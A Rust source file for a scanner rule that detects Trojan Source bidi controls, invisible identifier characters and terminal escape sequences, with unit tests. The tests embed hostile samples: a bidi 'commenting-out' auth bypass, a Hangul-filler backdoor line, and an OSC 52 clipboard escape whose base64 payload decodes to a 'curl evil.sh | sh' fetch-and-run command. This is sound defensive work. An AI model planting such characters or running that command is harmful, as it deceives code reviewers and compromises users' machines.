//! `trojan-source`: text that does not read the way it runs (CVE-2021-42574).
//!
//! In source code: Unicode bidi embeddings, overrides and isolates (U+202A–U+202E,
//! U+2066–U+2069), which reorder what an editor or a review tool shows, and invisible
//! characters that make two different identifiers look the same (U+200B zero width space,
//! U+2060–U+2064 word joiner and invisible operators, U+FEFF past the file's start, U+3164
//! Hangul filler, and U+200C/U+200D only between ASCII characters: between emoji or letters of
//! a script that joins they are what the text means). In any text file: terminal escape
//! sequences (ESC followed by `[` CSI, `]` OSC — clipboard writes with OSC 52, title changes —,
//! `P` DCS, `_` APC, `^` PM, or `c` reset), which rewrite the screen of whoever `cat`s the file
//! or runs the script that prints it.
//!
//! Cheap on the common file: one `memchr3` pass for the bytes every such character starts with
//! (0xE2 for U+2xxx, 0xEF for U+FEFF, 0x1B for ESC) and, in code only, one `memmem` pass for
//! the Hangul filler; a UTF-8 lead byte is decoded only where it stands.

use std::fmt::Write as _;

use serde_json::json;

use super::ctx::FileCtx;
use super::{Finding, Rule, Severity};

/// The rule.
pub const RULE: Rule = Rule {
    id: "trojan-source",
    severity: Severity::High,
    summary: "bidi controls or invisible characters in source code; terminal escape sequences in shipped text (medium)",
    why: "Bidi override and isolate characters make a compiler see code in a different order \
          than an editor or a code review shows it (Trojan Source, CVE-2021-42574), and invisible \
          characters make two different identifiers look alike. Nobody types them into code by \
          accident. A raw terminal escape in a README or in a script's output can clear the \
          screen, hide lines, change the window title or write the clipboard (OSC 52) of whoever \
          reads it in a terminal. The finding shows the line with the characters made visible.",
};

/// Extensions of files that are source code (what a compiler or interpreter reads).
const CODE: &[&str] = &[
    "js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx", "vue", "svelte", "py", "pyi", "pyx",
    "rs", "go", "c", "h", "cc", "cpp", "cxx", "hpp", "hh", "java", "kt", "kts", "scala", "rb",
    "php", "sh", "bash", "zsh", "ps1", "psm1", "pl", "pm", "lua", "swift", "cs", "m", "mm",
];

/// True when `name` is source code by its extension.
pub fn is_code(name: &str) -> bool {
    let base = name.rsplit('/').next().unwrap_or(name);
    base.rsplit_once('.')
        .is_some_and(|(_, ext)| CODE.iter().any(|c| c.eq_ignore_ascii_case(ext)))
}

/// One kind of character found, with its first position.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Found {
    Bidi(char),
    Invisible(char),
    Escape(u8),
}

impl Found {
    fn describe(self) -> String {
        match self {
            Found::Bidi(c) => format!("bidi control U+{:04X}", c as u32),
            Found::Invisible(c) => format!("invisible character U+{:04X}", c as u32),
            Found::Escape(b'[') => "terminal escape ESC [ (CSI)".to_owned(),
            Found::Escape(b']') => {
                "terminal escape ESC ] (OSC: title, clipboard, links)".to_owned()
            }
            Found::Escape(b) => format!("terminal escape ESC {}", char::from(b)),
        }
    }
}

/// The character starting at `at` when it is a UTF-8 three-byte sequence.
fn char3(bytes: &[u8], at: usize) -> Option<char> {
    let s = bytes.get(at..at + 3)?;
    std::str::from_utf8(s).ok()?.chars().next()
}

/// The characters just before and after `at..end`, when they are ASCII.
fn ascii_around(bytes: &[u8], at: usize, end: usize) -> bool {
    let before = at.checked_sub(1).and_then(|i| bytes.get(i));
    let after = bytes.get(end);
    before.is_some_and(u8::is_ascii_graphic) && after.is_some_and(u8::is_ascii_graphic)
}

/// Classifies the byte at `at` (one of the prefilter's bytes).
fn classify(bytes: &[u8], at: usize, code: bool) -> Option<Found> {
    match bytes[at] {
        0x1b => match bytes.get(at + 1) {
            Some(&b @ (b'[' | b']' | b'P' | b'_' | b'^' | b'c')) => Some(Found::Escape(b)),
            _ => None,
        },
        0xe2 if code => match char3(bytes, at)? {
            c @ ('\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}') => Some(Found::Bidi(c)),
            c @ ('\u{200b}' | '\u{2060}'..='\u{2064}') => Some(Found::Invisible(c)),
            c @ ('\u{200c}' | '\u{200d}') if ascii_around(bytes, at, at + 3) => {
                Some(Found::Invisible(c))
            }
            _ => None,
        },
        0xef if code && at > 0 && bytes.get(at..at + 3) == Some(b"\xef\xbb\xbf") => {
            Some(Found::Invisible('\u{feff}'))
        }
        _ => None,
    }
}

/// Every character of interest in `bytes`: (offset, what), in order.
fn scan(bytes: &[u8], code: bool) -> Vec<(usize, Found)> {
    let mut hits: Vec<(usize, Found)> = if code {
        memchr::memchr3_iter(0x1b, 0xe2, 0xef, bytes)
            .filter_map(|at| classify(bytes, at, true).map(|f| (at, f)))
            .collect()
    } else {
        memchr::memchr_iter(0x1b, bytes)
            .filter_map(|at| classify(bytes, at, false).map(|f| (at, f)))
            .collect()
    };
    if code {
        let filler = memchr::memmem::find_iter(bytes, "\u{3164}".as_bytes())
            .map(|at| (at, Found::Invisible('\u{3164}')));
        hits.extend(filler);
        hits.sort_by_key(|h| h.0);
    }
    hits
}

/// The line holding `at`, at most `WINDOW` bytes either side, with every control and invisible
/// character made visible; and its 1-based number.
fn shown_line(bytes: &[u8], at: usize) -> (u32, String) {
    const WINDOW: usize = 80;
    let start = memchr::memrchr(b'\n', &bytes[..at]).map_or(0, |i| i + 1);
    let end = memchr::memchr(b'\n', &bytes[at..]).map_or(bytes.len(), |i| at + i);
    let line =
        u32::try_from(memchr::memchr_iter(b'\n', &bytes[..at]).count() + 1).unwrap_or(u32::MAX);
    let from = start.max(at.saturating_sub(WINDOW));
    let to = end.min(at.saturating_add(WINDOW));
    let text = String::from_utf8_lossy(&bytes[from..to]);
    let mut out = String::with_capacity(text.len() + 16);
    if from > start {
        out.push('…');
    }
    for c in text.chars() {
        if matches!(c, '\u{2060}'..='\u{2064}' | '\u{3164}' | '\u{200b}'..='\u{200d}') {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        } else {
            out.push_str(&crate::sanitize::for_terminal(c.encode_utf8(&mut [0; 4])));
        }
    }
    if to < end {
        out.push('…');
    }
    (line, out)
}

/// Reports hidden characters in source code (high) and terminal escapes in text (medium): one
/// finding per file and class, at the first occurrence, with the count.
pub fn check(ctx: &FileCtx<'_>, bytes: &[u8], out: &mut Vec<Finding>) {
    if !ctx.policy.enabled(RULE.id) {
        return;
    }
    let code = is_code(ctx.name());
    let hits = scan(bytes, code);
    if hits.is_empty() {
        return;
    }
    let (unicode, escapes): (Vec<_>, Vec<_>) = hits
        .into_iter()
        .partition(|(_, f)| !matches!(f, Found::Escape(_)));
    for (group, severity, what) in [
        (unicode, Severity::High, "hidden characters in source code"),
        (escapes, Severity::Medium, "terminal escape sequences"),
    ] {
        let Some(&(at, first)) = group.first() else {
            continue;
        };
        let (line, shown) = shown_line(bytes, at);
        let mut kinds: Vec<String> = group.iter().map(|(_, f)| f.describe()).collect();
        kinds.sort();
        kinds.dedup();
        let message = format!(
            "{what}: {} ({}), first on line {line}: {shown}",
            group.len(),
            kinds.join(", ")
        );
        out.push(
            Finding::new(&RULE, ctx.location(Some(line), None), message)
                .severity(severity)
                .evidence(json!({
                    "count": group.len(),
                    "kinds": kinds,
                    "first": first.describe(),
                    "line": shown,
                })),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::test_support::with_file;

    fn found(path: &str, text: &str) -> Vec<(Severity, Option<u32>, String)> {
        with_file(path, |ctx| {
            let mut out = Vec::new();
            check(ctx, text.as_bytes(), &mut out);
            out.into_iter()
                .map(|f| (f.severity, f.location.line, f.message))
                .collect()
        })
    }

    #[test]
    fn the_cve_example_is_high_and_shown_visibly() {
        // The paper's "commenting-out": an RLO and isolates hide that the check is a comment.
        let src = "let isAdmin = false;\n/*\u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\nconsole.log('admin');\n";
        let got = found("lib/auth.js", src);
        assert_eq!(got.len(), 1, "{got:?}");
        let (sev, line, msg) = &got[0];
        assert_eq!((*sev, *line), (Severity::High, Some(2)));
        assert!(
            msg.contains("\\u{202e}") && msg.contains("\\u{2066}"),
            "{msg}"
        );
        assert!(
            msg.contains("4 (bidi control U+202E, bidi control U+2066, bidi control U+2069)"),
            "{msg}"
        );
        assert!(!msg.contains('\u{202e}'), "no raw control in the message");
    }

    #[test]
    fn invisible_identifiers_in_code() {
        let got = found("src/app.ts", "const a\u{200b}b = 1;\n");
        assert_eq!(got.len(), 1);
        assert!(got[0].2.contains("U+200B"), "{:?}", got[0]);
        let filler = found("server.js", "const { timeout,\u{3164} } = req.query;\n");
        assert_eq!(filler.len(), 1, "the Hangul filler backdoor");
        assert!(found("x.py", "a = 1\u{2060}\n")[0].2.contains("U+2060"));
    }

    #[test]
    fn what_is_not_reported() {
        // A BOM at the start, emoji sequences, joiners inside a script, ordinary punctuation.
        assert!(found("a.js", "\u{feff}module.exports = 1;\n").is_empty());
        assert!(
            found(
                "a.js",
                "const family = '\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}';\n"
            )
            .is_empty()
        );
        assert!(found("a.js", "const fa = 'می\u{200c}خواهم';\n").is_empty());
        assert!(
            found(
                "a.js",
                "// a \u{2014} dash \u{2026} and \u{201c}quotes\u{201d}\n"
            )
            .is_empty()
        );
        // Bidi controls outside code are not this rule's business (an Arabic README).
        assert!(found("README.md", "\u{202b}نص\u{202c}\n").is_empty());
        // A BOM later in code is.
        assert_eq!(found("a.js", "x();\n\u{feff}y();\n").len(), 1);
    }

    #[test]
    fn terminal_escapes_in_any_text_are_medium() {
        let readme = "# tool\n\nUsage:\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 run it\n\x1b[2J\n";
        let got = found("README.md", readme);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!((got[0].0, got[0].1), (Severity::Medium, Some(3)));
        assert!(
            got[0].2.contains("2 (") && got[0].2.contains("^[]52"),
            "{}",
            got[0].2
        );
        let title = found("bin/cli.js", "console.log('\x1b]0;pwned\x07');\n");
        assert_eq!(title[0].0, Severity::Medium);
        // ESC alone, or escaped in source text, is nothing.
        assert!(found("a.js", "const ESC = '\\x1b[0m';\n").is_empty());
        assert!(found("a.txt", "\x1b\n").is_empty());
    }

    #[test]
    fn hostile_bytes_never_panic_and_long_lines_are_cut() {
        for bytes in [&b"\xe2"[..], b"\xe2\x80", b"\x1b", b"\xef\xbb", b"\xe3\x85"] {
            with_file("a.js", |ctx| check(ctx, bytes, &mut Vec::new()));
        }
        let long = format!("{}\u{202e}{}", "a".repeat(100_000), "b".repeat(100_000));
        let got = found("min.js", &long);
        assert!(
            got[0].2.len() < 400,
            "the shown line is a window: {}",
            got[0].2.len()
        );
    }
}
